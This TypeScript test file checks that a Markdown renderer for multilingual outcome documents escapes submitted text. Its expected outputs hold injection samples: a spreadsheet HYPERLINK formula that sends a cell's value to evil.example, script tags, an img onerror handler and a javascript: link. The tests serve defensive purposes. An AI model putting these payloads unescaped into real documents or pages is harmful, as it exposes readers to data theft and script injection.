import { expectGolden } from '../../../test/fixtures/reports/golden';
import { outcomeFixture } from '../../../test/fixtures/reports/outcome-document.fixture';
import type { Language } from '../outcome-document';
import { escapeMarkdown, renderMarkdown } from './markdown';

const markdown = (language: Language = 'en'): string =>
  renderMarkdown(outcomeFixture(language)).toString('utf8');

describe('renderMarkdown', () => {
  it('matches the golden files', () => {
    expectGolden(markdown('en'), 'outcome-document.en.golden.md');
    expectGolden(markdown('fr'), 'outcome-document.fr.golden.md');
  });

  it('leaves no link, image, raw HTML or entity to submitted text', () => {
    const text = markdown();
    // The renderer itself writes none of these, so any unescaped one would be a delegate's.
    expect(text).not.toMatch(/(^|[^\\])[<>[\]&]/m);
    expect(text).toContain(
      '### Recommendation 5. =HYPERLINK("https://evil.example/?q="\\&A1,"Municipal identity cards") \\<script\\>alert(1)\\</script\\>',
    );
    expect(text).toContain('\\<img src=x onerror=alert(1)\\>');
    expect(text).toContain('\\[the New York model\\](javascript:alert(1))');
    expect(text).toContain('\\<script\\>alert("summary")\\</script\\>');
  });

  it('keeps line-start markers of submitted text from becoming lists or headings', () => {
    const text = markdown();
    expect(text).toContain('\\- not a bullet\\\n\\+ neither\\\n\\=SUM(A1:A9)');
    expect(escapeMarkdown('# not a heading')).toBe('\\# not a heading');
    expect(escapeMarkdown('> not a quote')).toBe('\\> not a quote');
    expect(escapeMarkdown('1. not a list')).toBe('1\\. not a list');
    expect(escapeMarkdown('12) not a list')).toBe('12\\) not a list');
    expect(escapeMarkdown('a *b* _c_ `d` | e ~f~ \\')).toBe(
      'a \\*b\\* \\_c\\_ \\`d\\` \\| e \\~f\\~ \\\\',
    );
    expect(escapeMarkdown('Plain text, (with) parentheses.')).toBe(
      'Plain text, (with) parentheses.',
    );
  });

  it('prints headings and labels in the document language', () => {
    expect(markdown('fr')).toContain('## Annexe A — Recommandations dont il a été pris note');
    expect(markdown('fr')).toContain('- **Niveau de gouvernement**\u00a0: Local');
    expect(markdown('es')).toContain('## Anexo C — Participación');
    expect(markdown('es')).toContain('- **Nivel de gobierno**: Local');
  });
});
